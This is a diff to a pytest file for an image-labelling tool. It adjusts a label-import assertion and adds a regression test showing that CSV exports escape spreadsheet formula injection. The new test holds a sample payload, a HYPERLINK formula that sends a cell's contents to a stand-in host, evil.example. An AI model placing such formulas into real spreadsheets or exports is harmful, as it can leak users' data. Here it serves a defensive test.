@@ -62,7 +62,8 @@ def env(tmp_path):
         decide(db, image_id, "relabel", reviewer="ana", label=label)
     for image_id, action in SPECIAL.items():
         decide(db, image_id, action, reviewer="ben")
-    assert import_labels(db, list(IMPORTED.items())) == 1
+    assert import_labels(db, list(IMPORTED.items())) == 0  # an auto label is a label: kept
+    assert import_labels(db, list(IMPORTED.items()), replace=True) == 1
     return db, tmp_path, model
 
 
@@ -460,3 +461,17 @@ def test_predictions_report_needs_a_model(tmp_path):
     db = open_db(tmp_path / "t.db")
     with pytest.raises(ExportError, match="No active model"):
         predictions_report(db, tmp_path / "p.csv")
+
+
+def test_formula_reviewer_names_are_inert_in_csv_exports(env):
+    """Issue 18, finding 14: a reviewer named like a spreadsheet formula."""
+    import csv
+
+    db, tmp_path, _ = env
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    decide(db, 3, "relabel", reviewer=evil, label="powder")
+    export_labels(db, tmp_path / "out", fmt="csv")
+    rows = list(csv.DictReader((tmp_path / "out" / "manifest.csv").open(encoding="utf-8")))
+    cells = [v for r in rows for v in r.values()]
+    assert "'" + evil in cells
+    assert not any(v.startswith(("=", "+", "@")) for v in cells), "a cell a spreadsheet would run"
